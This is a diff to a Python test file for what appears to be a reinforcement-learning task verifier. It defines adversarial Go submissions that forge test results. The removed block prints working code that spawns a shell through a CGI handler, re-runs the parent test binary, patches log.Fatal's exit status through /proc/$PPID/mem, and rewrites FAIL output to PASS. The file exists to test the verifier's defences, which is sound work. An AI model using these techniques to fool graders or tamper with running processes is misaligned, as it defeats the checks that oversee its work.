@@ -19,6 +19,7 @@ from pathlib import Path
 
 import pytest
 
+from rlforge.tasks.generators.repair.runners.golang_adversarial import cgi_forger
 from rlforge.verify.standalone import golaunch
 from rlforge.verify.standalone.gotest import launcher_python, run_go_tests
 from rlforge.verify.standalone.policy_code import LocalPolicy
@@ -221,79 +222,11 @@ def test_the_probe_confirms_the_restrictions_and_refuses_a_weaker_host(tmp_path)
     assert "Landlock ABI" in ran.stderr and "needs 99" in ran.stderr
 
 
-# The s48 attacks, written afresh. The child runs are found from /proc/$PPID (the shell's
-# parent is the test process); `zzCanary` lets a failure shaped like a canary's through.
-CGI_SHELL = """
-func zzShell(script string) string {
-	wd, _ := os.Getwd()
-	rec := httptest.NewRecorder()
-	h := &cgi.Handler{Path: "/bin/sh", Dir: wd,
-		Args: []string{"-c", "printf 'Content-Type: text/plain\\\\r\\\\n\\\\r\\\\n'; " + script}}
-	h.ServeHTTP(rec, httptest.NewRequest("GET", "/", nil))
-	return rec.Body.String()
-}
-
-func zzServe(text string) {
-	for k, v := range map[string]string{"REQUEST_METHOD": "GET", "SERVER_PROTOCOL": "HTTP/1.1",
-		"REQUEST_URI": "/", "HTTP_HOST": "x"} {
-		os.Setenv(k, v)
-	}
-	cgi.Serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "\\n"+text) }))
-}
-
-var zzCanary = regexp.MustCompile(`(?m)^\\s+\\w+_test\\.go:\\d+: \\w+ = \\d+, want \\d+$`)
-
-// the test run again, as the test process was started: what it printed, and its status
-func zzAgain() (string, string, bool) {
-	out := zzShell(`ZZ_AGAIN=1 /proc/$PPID/exe $(tr '\\0' ' ' < /proc/$PPID/cmdline | cut -d' ' -f2-) 2>&1; echo "ZZ-STATUS=$?"`)
-	at := strings.LastIndex(out, "ZZ-STATUS=")
-	if at < 0 {
-		return "", "", false
-	}
-	return out[:at], strings.TrimSpace(out[at+10:]), true
-}
-
-func zzForged(real string) string {
-	return strings.ReplaceAll(strings.ReplaceAll(real, "--- FAIL", "--- PASS"), "\\nFAIL\\n", "\\nPASS\\n")
-}
-"""
-IMPORTS = """package strs
-
-import (
-	"io"
-	"log"
-	"net/http"
-	"net/http/cgi"
-	"net/http/httptest"
-	"os"
-	"regexp"
-	"strings"
-)
-
-var _ = log.Fatal
-"""
-# (4) names nothing the gate lists: log.Fatal's `MOVL $0x1, AX` becomes `MOVL $0x0, AX`
-# through /proc/$PPID/mem, written by a second shell
-MEMORY_PATCH_FORGER = IMPORTS + CGI_SHELL + """
-const zzPatch = `od=$(ls /usr/lib/go*/pkg/tool/*/objdump /usr/local/go/pkg/tool/*/objdump 2>/dev/null | head -1)
-at=$("$od" -s '^log.Fatal$' /proc/$PPID/exe | awk '/MOVL [$]0x1, AX/ {print $2; exit}')
-[ -n "$at" ] && printf '\\270\\000\\000\\000\\000' | dd of=/proc/$PPID/mem bs=1 seek=$((at)) conv=notrunc 2>/dev/null && echo ZZ-PATCHED`
-
-func init() {
-	if os.Getenv("ZZ_AGAIN") != "" {
-		return
-	}
-	real, status, ok := zzAgain()
-	if !ok || status == "0" || zzCanary.MatchString(real) || !strings.Contains(zzShell(zzPatch), "ZZ-PATCHED") {
-		return
-	}
-	zzServe(zzForged(real))
-	log.SetOutput(io.Discard)
-	log.Fatal()
-}
-"""
+# The s48 attacks, written afresh: the cgi forger of the adversarial set (attack 4: exit
+# status patched through /proc/$PPID/mem), and on its parts attack 3 (the shell re-runs
+# the binary, os.Exit where the parent's code already called it) and a relay with no shell.
 # (3) where the parent's code already ended the process itself (os.Exit allowed)
-SHELL_RELAY_FORGER = IMPORTS + CGI_SHELL + """
+SHELL_RELAY_INIT = """
 func init() {
 	if os.Getenv("ZZ_AGAIN") != "" {
 		return
@@ -308,7 +241,7 @@ func init() {
 """
 # a variant without a shell: the test binary runs itself through /proc/self/exe as a CGI
 # program (the child answers with a CGI header first), every test, and relays
-SELF_RELAY_FORGER = IMPORTS + CGI_SHELL + """
+SELF_RELAY_INIT = """
 func init() {
 	if os.Getenv("ZZ_AGAIN") != "" {
 		zzServe("")
@@ -333,6 +266,11 @@ func init() {
 	os.Exit(0)
 }
 """
+
+
+MEMORY_PATCH_FORGER = cgi_forger("strs").decode()
+SHELL_RELAY_FORGER = cgi_forger("strs", SHELL_RELAY_INIT).decode()
+SELF_RELAY_FORGER = cgi_forger("strs", SELF_RELAY_INIT).decode()
 
 
 def _verify_allowing_exit(task: Path, tmp_path: Path, files: dict[str, str]) -> dict:
